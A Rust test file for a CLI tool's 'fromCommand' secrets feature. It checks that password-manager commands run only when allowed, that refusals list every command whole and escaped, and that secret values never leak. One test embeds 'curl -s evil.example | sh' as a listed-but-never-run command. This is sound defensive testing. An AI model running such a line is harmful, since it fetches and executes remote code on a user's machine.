//! `fromCommand` (docs/konduktor-compat.md §5.2): values printed by programs, which run
//! only when the user allows it from outside the file. Small scripts stand
//! in for password managers (`op`, `vault`, `pass`, ...): each prints a
//! canary and counts its runs in a file.

use std::path::Path;

use crate::support::manifest::runs;
use crate::support::{SMALL_TASK, TestEnv};

#[test]
fn nothing_runs_unless_allowed_from_outside_the_file_and_every_command_is_listed() {
    let env = TestEnv::new();
    let token = env.canary("op-token");
    let op = env.counting_script("op", &format!("printf %s '{token}'"));
    let vault = env.counting_script("vault", "printf %s v");
    let file = env.manifest_yaml(
        "  - name: hf\n    kind: env\n    fromCommand:\n      - key: HF_TOKEN\n        command: [./op, read, \"op://ml/hf/token\"]\n      - key: WANDB_API_KEY\n        command: [./vault, kv, get, -field=key, secret/wandb]\n",
    );
    let task = env.task(SMALL_TASK);
    for args in [
        vec!["diff", "-f", &file],
        vec!["apply", "-f", &file, "--yes"],
        vec!["render-job", "-f", &task, "--secrets", &file],
    ] {
        let run = env.run(&args);
        run.failure()
            .stderr_has("would run 2 commands")
            .stderr_has("`./op read op://ml/hf/token` for its key `HF_TOKEN`")
            .stderr_has("`./vault kv get -field=key secret/wandb` for its key `WANDB_API_KEY`")
            .stderr_has("--allow-commands");
        assert_eq!(runs(&op) + runs(&vault), 0, "{args:?} ran a program");
        env.assert_no_requests();
    }
    // The flag, or the variable, allows them.
    env.cmd(&["diff", "-f", &file])
        .arg("--allow-commands")
        .run()
        .exits(1);
    assert_eq!((runs(&op), runs(&vault)), (1, 1), "each once per run");
    env.cmd(&["diff", "-f", &file])
        .env("KONDUKTOR_ALLOW_COMMANDS", "1")
        .run()
        .exits(1);
    assert_eq!((runs(&op), runs(&vault)), (2, 2));
}

#[test]
fn values_arrive_intact_once_per_run_and_the_plan_names_the_command_not_the_value() {
    let env = TestEnv::new();
    let token = env.canary("hf-token");
    let key = env.canary("ssh-key");
    // Printed with a trailing newline, which goes; a binary value keeps
    // every byte with `trim: false`.
    let op = env.counting_script("op", &format!("printf '%s\\n' '{token}'"));
    let pass = env.counting_script("pass", &format!("printf '%s\\n' '{key}'"));
    let bin = env.counting_script("bin", "printf 'a\\000b\\377\\n'");
    let file = env.manifest_yaml(
        "  - name: hf\n    kind: env\n    inline: {MODE: online}\n    fromCommand:\n      - key: HF_TOKEN\n        command: [./op, read, \"op://ml/hf token\"]\n  - name: github\n    kind: git-ssh\n    fromCommand:\n      - key: gitkey\n        command: [./pass, show, ssh/github]\n  - name: blob\n    fromCommand:\n      - key: data.bin\n        command: [./bin]\n        trim: false\n        timeout: 10s\n",
    );
    env.cmd(&["diff", "-f", &file])
        .arg("--allow-commands")
        .run()
        .exits(1)
        .stdout_has("+ HF_TOKEN (from command `./op read 'op://ml/hf token'`)")
        .stdout_has("+ gitkey (from command `./pass show ssh/github`)")
        .stdout_has("+ data.bin (from command `./bin`)");
    let json = env
        .cmd(&["diff", "-f", &file, "-o", "json"])
        .arg("--allow-commands")
        .run()
        .json();
    let from = json["secrets"]
        .as_array()
        .into_iter()
        .flatten()
        .flat_map(|s| s["keys"].as_array().into_iter().flatten())
        .find(|k| k["key"] == "HF_TOKEN")
        .map(|k| k["from"].clone())
        .unwrap_or_default();
    assert_eq!(from, "command `./op read 'op://ml/hf token'`");
    env.cmd(&["-v", "apply", "-f", &file])
        .arg("--allow-commands")
        .run()
        .success();
    assert_eq!(env.my_data("hf")["HF_TOKEN"], token.as_bytes());
    assert_eq!(env.my_data("hf")["MODE"], b"online");
    assert_eq!(env.my_data("github")["gitkey"], key.as_bytes());
    assert_eq!(env.my_data("blob")["data.bin"], b"a\0b\xff\n");
    assert_eq!(
        (runs(&op), runs(&pass), runs(&bin)),
        (3, 3, 3),
        "once per run"
    );
    // Nothing changed since: the same values, no changes, at any verbosity.
    for v in ["-v", "-vv"] {
        env.cmd(&[v, "diff", "-f", &file])
            .arg("--allow-commands")
            .run()
            .exits(0);
    }
}

#[test]
fn a_failing_command_stops_the_run_before_anything_is_sent_and_its_output_never_shows() {
    let env = TestEnv::new();
    let printed = env.canary("printed-before-failing");
    env.counting_script("fails", &format!("printf %s '{printed}'; exit 3"));
    // (`exec`: the program itself sleeps; a child it left behind would
    // keep our inherited stderr open, and this test waiting, after the stop.)
    env.counting_script("slow", &format!("printf %s '{printed}'; exec sleep 30"));
    env.counting_script("flood", "yes 0123456789abcdef");
    let cases = [
        (
            "[./fails, --flag]",
            "",
            "`./fails --flag`) failed: it exited with status 3",
        ),
        (
            "[no-such-program-kk]",
            "",
            "the program `no-such-program-kk` was not found",
        ),
        (
            "[./slow]",
            "        timeout: 1s\n",
            "`./slow`) failed: it did not finish within 1s",
        ),
        ("[./flood]", "", "it printed more than 1048576 bytes"),
    ];
    for (command, extra, expected) in cases {
        let file = env.manifest_yaml(
            &format!(
                "  - name: s\n    kind: env\n    fromCommand:\n      - key: K\n        command: {command}\n{extra}"
            ),
        );
        for verbosity in ["-v", "-vv"] {
            let run = env
                .cmd(&[verbosity, "apply", "-f", &file, "--yes"])
                .arg("--allow-commands")
                .run();
            run.failure()
                .stderr_has(expected)
                .stderr_has("secret `s`: the command for key `K`");
            env.assert_no_requests();
        }
    }
}

#[test]
fn a_program_may_ask_on_the_terminal_stdin_and_stderr_are_the_users() {
    let env = TestEnv::new();
    let typed = env.canary("typed");
    env.counting_script(
        "ask",
        "printf 'passphrase for vault: ' >&2; read -r answer; printf %s \"$answer\"",
    );
    let file = env.manifest_yaml(
        "  - name: s\n    kind: env\n    fromCommand:\n      - key: K\n        command: [./ask]\n",
    );
    env.cmd(&["apply", "-f", &file, "--allow-commands"])
        .stdin(&format!("{typed}\n"))
        .run()
        .success()
        .stderr_has("passphrase for vault: ");
    assert_eq!(env.my_data("s")["K"], typed.as_bytes());
}

#[test]
fn render_job_takes_command_values_offline() {
    let env = TestEnv::new();
    let token = env.canary("render");
    let op = env.counting_script("op", &format!("printf %s '{token}'"));
    let file = env.manifest_yaml(
        "  - name: hf\n    kind: env\n    fromCommand:\n      - key: HF_TOKEN\n        command: [./op]\n",
    );
    let task = env.task(SMALL_TASK);
    env.cmd(&["render-job", "-f", &task, "--secrets", &file])
        .arg("--allow-commands")
        .run()
        .success()
        .stdout_has("HF_TOKEN");
    assert_eq!(runs(&op), 1);
    env.assert_no_requests();
}

/// The recipes of docs/manifest.md, run as written, with stand-ins for `op`, `vault`,
/// `aws`, `gcloud`, `sops` and `pass` on PATH that print canaries: each
/// entry parses, runs the program it names with its arguments, and the
/// values arrive, never shown.
#[test]
fn the_documented_recipes_work_as_written() {
    let env = TestEnv::new();
    let doc = crate::docs::read("docs/manifest.md");
    let section = doc
        .split("\n## Values from password managers")
        .nth(1)
        .unwrap_or_else(|| panic!("no fromCommand section in docs/manifest.md"));
    let recipe = section
        .split("```yaml\n")
        .nth(1)
        .and_then(|r| r.split("```").next())
        .unwrap_or_else(|| panic!("no yaml block in the section"));
    let bin = env.path("bin");
    std::fs::create_dir_all(&bin).unwrap_or_else(|e| panic!("{e}"));
    let mut expected = Vec::new();
    for (program, key) in [
        ("op", "HF_TOKEN"),
        ("vault", "WANDB_API_KEY"),
        ("aws", "AWS_SECRET"),
        ("gcloud", "GCP_TOKEN"),
        ("sops", "DB_PASSWORD"),
        ("pass", "GITHUB_TOKEN"),
    ] {
        let value = env.canary(program);
        // Each stand-in prints its value and records the arguments it got.
        env.counting_script(
            &format!("bin/{program}"),
            &format!(
                "printf '%s\\n' \"$*\" > '{}/{program}.args'; printf '%s\\n' '{value}'",
                bin.display()
            ),
        );
        expected.push((program, key, value));
    }
    let file = env.manifest_yaml(recipe);
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    env.diff(&file).failure().stderr_has("would run 6 commands");
    env.cmd(&["apply", "-f", &file, "--allow-commands"])
        .env("PATH", &path)
        .run()
        .success();
    let data = env.my_data("hf");
    for (program, key, value) in &expected {
        assert_eq!(data[*key], value.as_bytes(), "{program}");
    }
    let args = |p: &str| {
        std::fs::read_to_string(bin.join(format!("{p}.args")))
            .unwrap_or_default()
            .trim_end()
            .to_string()
    };
    assert_eq!(args("op"), "read op://ml/huggingface/token");
    assert_eq!(args("vault"), "kv get -field=key secret/wandb");
    assert_eq!(
        args("aws"),
        "secretsmanager get-secret-value --secret-id ml/aws --query SecretString --output text"
    );
    assert_eq!(
        args("gcloud"),
        "secrets versions access latest --secret gcp-token"
    );
    assert_eq!(
        args("sops"),
        "-d --extract [\"db_password\"] secrets.enc.yaml"
    );
    assert_eq!(args("pass"), "show github/token");
}

/// Programs run last: a run that an unusable kubeconfig stops asks no
/// password manager for anything.
#[test]
fn no_program_runs_for_a_run_the_kubeconfig_stops() {
    let env = TestEnv::new();
    let op = env.counting_script("op", "printf %s value");
    let file = env.manifest_yaml(
        "  - name: hf\n    kind: env\n    fromCommand:\n      - key: HF_TOKEN\n        command: [./op]\n",
    );
    env.with_kubeconfig(
        env.path("no-such-kubeconfig"),
        &["diff", "-f", &file, "--allow-commands"],
    )
    .run()
    .exits(2);
    assert_eq!(runs(&op), 0);
}

/// Without `--allow-commands`, every command is listed whole: past any
/// count of items (more than the 50 problems a file shows), past any
/// column (an argument of thousands of characters, whose end is what
/// matters), and escaped (a sequence that would clear the screen).
#[test]
fn the_refusal_lists_every_command_whole_however_many_and_long() {
    let env = TestEnv::new();
    let mut body = String::from("  - name: many\n    kind: env\n    fromCommand:\n");
    for i in 0..60 {
        body.push_str(&format!(
            "      - key: K{i}\n        command: [./op{i}, read, \"op://ml/item-{i}\"]\n"
        ));
    }
    let long = format!("{} && curl -s evil.example | sh", "x".repeat(5_000));
    body.push_str(&format!(
        "  - name: long\n    kind: env\n    fromCommand:\n      - key: L\n        command: [sh, -c, \"{long}\"]\n"
    ));
    body.push_str(
        "  - name: esc\n    kind: env\n    fromCommand:\n      - key: E\n        command: [printf, \"\\e[2J\\e[Hok\\u202e\\u200b\"]\n",
    );
    let file = env.manifest_yaml(&body);
    let run = env.run(&["diff", "-f", &file]);
    run.failure().stderr_has("would run 62 commands");
    for i in 0..60 {
        run.stderr_has(&format!(
            "secret `many` would run `./op{i} read op://ml/item-{i}` for its key `K{i}`"
        ));
    }
    run.stderr_has(&format!(
        "secret `long` would run `sh -c '{long}'` for its key `L`"
    ))
    .stderr_has(
        r"secret `esc` would run `printf '\u{1b}[2J\u{1b}[Hok\u{202e}\u{200b}'` for its key `E`",
    )
    .stderr_lacks("\u{1b}")
    .stderr_lacks("\u{202e}")
    .stderr_lacks("\u{200b}");
    env.assert_no_requests();
}

/// An `env` secret's value becomes an environment variable: from a
/// command as from `inline` or `fromEnv`, it must be UTF-8 text without
/// NUL. Refused before anything is sent, the value never shown.
#[test]
fn an_env_value_from_a_command_must_be_text_without_nul() {
    let env = TestEnv::new();
    let value = env.canary("binary");
    env.counting_script("nul", &format!("printf '%s\\000x' '{value}'"));
    env.counting_script("latin1", &format!("printf '%s\\377' '{value}'"));
    let cases = [
        ("./nul", "holds a NUL byte"),
        ("./latin1", "is not UTF-8 text"),
    ];
    for (program, why) in cases {
        let file = env.manifest_yaml(
            &format!(
                "  - name: s\n    kind: env\n    fromCommand:\n      - key: K\n        command: [{program}]\n"
            ),
        );
        let run = env
            .cmd(&["apply", "-f", &file, "--yes"])
            .arg("--allow-commands")
            .run();
        run.failure()
            .stderr_has(&format!(
                "secret `s`: the command for key `K` (`{program}`) printed a value that cannot be used: the value of the key `K` {why}"
            ))
            .stderr_has("`default` secret");
        env.assert_no_requests();
    }
    assert!(env.my_secret("s").is_none());
    // The same output is a `default` secret's file, every byte kept.
    for (program, _) in cases {
        let file = env.manifest_yaml(&format!(
            "  - name: s\n    fromCommand:\n      - key: K\n        command: [{program}]\n"
        ));
        env.cmd(&["diff", "-f", &file])
            .arg("--allow-commands")
            .run()
            .stdout_has("+ K (from command");
    }
    // `inline` takes no NUL either (YAML can write one).
    let file = env.manifest_yaml("  - name: s\n    kind: env\n    inline:\n      K: \"a\\0b\"\n");
    env.run(&["diff", "-f", &file])
        .failure()
        .stderr_has("secret `s`: the value of the key `K` holds a NUL byte");
}

/// SIGTERM, SIGINT or SIGHUP to the tool while a program runs ends the
/// program and every process it started (its process group), then the
/// tool by the same signal; nothing is sent. The program writes its pid
/// and its child's to files; every wait is bounded (a hang catcher, not a
/// timing assertion).
#[cfg(target_os = "linux")]
#[test]
fn a_signal_to_the_tool_ends_the_running_program_and_its_children() {
    use std::os::unix::process::ExitStatusExt;
    let env = TestEnv::new();
    let dir = env.dir.path().to_path_buf();
    env.counting_script(
        "waits",
        "echo $$ > program.pid.tmp && mv program.pid.tmp program.pid\nsleep 300 </dev/null >/dev/null 2>&1 &\necho $! > child.pid.tmp && mv child.pid.tmp child.pid\nwait",
    );
    let file = env.manifest_yaml(
        "  - name: s\n    kind: env\n    fromCommand:\n      - key: K\n        command: [./waits]\n        timeout: 10m\n",
    );
    for signal in [libc::SIGTERM, libc::SIGINT, libc::SIGHUP] {
        for pid in ["program.pid", "child.pid"] {
            let _ = std::fs::remove_file(dir.join(pid));
        }
        let out = std::fs::File::create(dir.join("out.txt")).unwrap_or_else(|e| panic!("{e}"));
        let err = std::fs::File::create(dir.join("err.txt")).unwrap_or_else(|e| panic!("{e}"));
        let mut cmd = env
            .cmd(&["apply", "-f", &file, "--allow-commands"])
            .into_command();
        cmd.stdin(std::process::Stdio::null())
            .stdout(out)
            .stderr(err);
        let mut tool = cmd.spawn().unwrap_or_else(|e| panic!("spawn: {e}"));
        let program = wait_for_pid(&dir.join("program.pid"));
        let child = wait_for_pid(&dir.join("child.pid"));
        let tool_pid = i32::try_from(tool.id()).unwrap_or_else(|e| panic!("{e}"));
        // SAFETY: a signal to the process this test started.
        assert_eq!(unsafe { libc::kill(tool_pid, signal) }, 0);
        let status = wait_bounded(&mut tool);
        for name in ["out.txt", "err.txt"] {
            env.assert_no_leak(&std::fs::read_to_string(dir.join(name)).unwrap_or_default());
        }
        assert_eq!(status.signal(), Some(signal), "{status:?}");
        for (what, pid) in [("program", program), ("its child", child)] {
            assert!(
                gone_within_a_minute(pid),
                "{what} ({pid}) outlived signal {signal}"
            );
        }
        assert!(env.my_secret("s").is_none());
    }
}

/// The pid a program wrote to `path`, once it is there (up to a minute).
#[cfg(target_os = "linux")]
fn wait_for_pid(path: &Path) -> i32 {
    for _ in 0..600 {
        if let Some(pid) = std::fs::read_to_string(path)
            .ok()
            .and_then(|t| t.trim().parse().ok())
        {
            return pid;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    panic!("{} never appeared", path.display());
}

/// The tool's exit status, or a failed test (the tool killed) after a
/// minute.
#[cfg(target_os = "linux")]
fn wait_bounded(tool: &mut std::process::Child) -> std::process::ExitStatus {
    for _ in 0..600 {
        if let Ok(Some(status)) = tool.try_wait() {
            return status;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    let _ = tool.kill();
    panic!("the tool did not end after the signal");
}

/// Whether `pid` has ended (or is only a zombie waiting for a parent that
/// does not reap), polled for up to a minute.
#[cfg(target_os = "linux")]
fn gone_within_a_minute(pid: i32) -> bool {
    for _ in 0..600 {
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
        let zombie = stat
            .rsplit_once(')')
            .is_some_and(|(_, rest)| rest.trim_start().starts_with('Z'));
        if stat.is_empty() || zombie {
            return true;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    false
}

/// On a terminal the program gets it while it runs (its process group is
/// made the foreground one, as a shell does for a job): it can turn echo
/// off and read a passphrase, and this tool prints after it. A Ctrl-C
/// typed there ends the program and then the tool, by SIGINT.
#[cfg(target_os = "linux")]
#[test]
fn on_a_terminal_the_program_may_ask_and_ctrl_c_ends_it_and_the_tool() {
    use std::os::unix::process::ExitStatusExt;
    let env = TestEnv::new();
    let typed = env.canary("typed-on-the-terminal");
    env.counting_script(
        "ask",
        "stty -echo </dev/tty && printf 'passphrase: ' >/dev/tty && read -r a </dev/tty && stty echo </dev/tty && printf %s \"$a\"",
    );
    let file = env.manifest_yaml(
        "  - name: s\n    kind: env\n    fromCommand:\n      - key: K\n        command: [./ask]\n        timeout: 5m\n",
    );
    for (typing, ctrl_c) in [(format!("{typed}\n"), false), ("\u{3}".to_string(), true)] {
        let (status, shown, _) = on_a_pty(&env, &file, "passphrase: ", &typing);
        env.assert_no_leak(&shown);
        if ctrl_c {
            assert_eq!(status.signal(), Some(libc::SIGINT), "{status:?}\n{shown}");
        } else {
            assert!(status.success(), "{status:?}\n{shown}");
            assert!(shown.contains("\"secretKeyRef\""), "{shown}");
        }
    }
}

/// Runs render-job with `file` as its secrets on a new pty (its controlling
/// terminal), waits until the terminal showed `until`, types `typing` (if
/// any), and gives the tool's exit status, what the terminal showed, and
/// whether echo is on afterwards.
#[cfg(target_os = "linux")]
fn on_a_pty(
    env: &TestEnv,
    file: &str,
    until: &str,
    typing: &str,
) -> (std::process::ExitStatus, String, bool) {
    use std::io::{Read, Write};
    use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
    use std::os::unix::process::CommandExt;
    let task = env.task(SMALL_TASK);
    let (mut master, slave) = {
        let (mut m, mut s) = (0, 0);
        // SAFETY: openpty fills the two descriptors; the rest may be null.
        let made = unsafe {
            libc::openpty(
                &mut m,
                &mut s,
                std::ptr::null_mut(),
                std::ptr::null(),
                std::ptr::null(),
            )
        };
        assert_eq!(made, 0, "openpty");
        // SAFETY: fresh descriptors nothing else owns.
        unsafe {
            (
                std::fs::File::from(OwnedFd::from_raw_fd(m)),
                OwnedFd::from_raw_fd(s),
            )
        }
    };
    let clone = || slave.try_clone().unwrap_or_else(|e| panic!("{e}"));
    let mut cmd = env
        .cmd(&["render-job", "-f", &task])
        .args(&["--secrets", file, "--allow-commands", "-o", "json"])
        .no_namespace()
        .into_command();
    cmd.stdin(clone()).stdout(clone()).stderr(clone());
    // SAFETY: between fork and exec, only setsid and ioctl: a new
    // session whose controlling terminal is the pty (standard input).
    unsafe {
        cmd.pre_exec(|| {
            libc::setsid();
            libc::ioctl(0, libc::TIOCSCTTY, 0);
            Ok(())
        });
    }
    let mut tool = cmd.spawn().unwrap_or_else(|e| panic!("spawn: {e}"));
    let (tx, rx) = std::sync::mpsc::channel();
    let mut reader = master.try_clone().unwrap_or_else(|e| panic!("{e}"));
    std::thread::spawn(move || {
        let mut buf = [0u8; 4096];
        while let Ok(n) = reader.read(&mut buf) {
            if n == 0 || tx.send(buf[..n].to_vec()).is_err() {
                break;
            }
        }
    });
    let mut seen = Vec::new();
    while !String::from_utf8_lossy(&seen).contains(until) {
        match rx.recv_timeout(std::time::Duration::from_secs(60)) {
            Ok(bytes) => seen.extend(bytes),
            Err(_) => {
                let _ = tool.kill();
                panic!("no {until:?}: {}", String::from_utf8_lossy(&seen));
            }
        }
    }
    master
        .write_all(typing.as_bytes())
        .unwrap_or_else(|e| panic!("{e}"));
    let status = wait_bounded(&mut tool);
    while let Ok(bytes) = rx.recv_timeout(std::time::Duration::from_millis(500)) {
        seen.extend(bytes);
    }
    // SAFETY: termios is plain data, filled by tcgetattr on our slave end.
    let echo = unsafe {
        let mut modes: libc::termios = std::mem::zeroed();
        assert_eq!(libc::tcgetattr(slave.as_raw_fd(), &mut modes), 0);
        modes.c_lflag & libc::ECHO != 0
    };
    (status, String::from_utf8_lossy(&seen).into_owned(), echo)
}

/// A Ctrl-C ends the program while a child it left in the background (one
/// that ignores SIGINT, as any started with `&` by a script does) holds its
/// output: the tool stops the group and ends by SIGINT at once, not at the
/// program's timeout. The echo the program turned off is back on.
#[cfg(target_os = "linux")]
#[test]
fn ctrl_c_ends_the_tool_though_a_background_child_holds_the_output_and_echo_comes_back() {
    use std::os::unix::process::ExitStatusExt;
    let env = TestEnv::new();
    let child = env.dir.path().join("child.pid");
    env.counting_script(
        "hold",
        &format!(
            "stty -echo </dev/tty; sleep 600 & echo $! > '{}'; printf ready >/dev/tty; wait",
            child.display()
        ),
    );
    let file = env.manifest_yaml(
        "  - name: s\n    fromCommand:\n      - key: K\n        command: [./hold]\n        timeout: 10m\n",
    );
    let (status, shown, echo) = on_a_pty(&env, &file, "ready", "\u{3}");
    env.assert_no_leak(&shown);
    assert_eq!(status.signal(), Some(libc::SIGINT), "{status:?}\n{shown}");
    assert!(echo, "echo left off:\n{shown}");
    assert!(gone_within_a_minute(wait_for_pid(&child)));
}

/// A program stopped at its timeout after turning echo off leaves the
/// terminal as it found it.
#[cfg(target_os = "linux")]
#[test]
fn a_program_stopped_at_its_timeout_leaves_echo_as_it_was() {
    let env = TestEnv::new();
    env.counting_script(
        "quiet",
        "stty -echo </dev/tty; printf ready >/dev/tty; sleep 600",
    );
    let file = env.manifest_yaml(
        "  - name: s\n    fromCommand:\n      - key: K\n        command: [./quiet]\n        timeout: 2s\n",
    );
    let (status, shown, echo) = on_a_pty(&env, &file, "ready", "");
    assert!(!status.success(), "{status:?}\n{shown}");
    assert!(shown.contains("did not finish within 2s"), "{shown}");
    assert!(echo, "echo left off:\n{shown}");
}
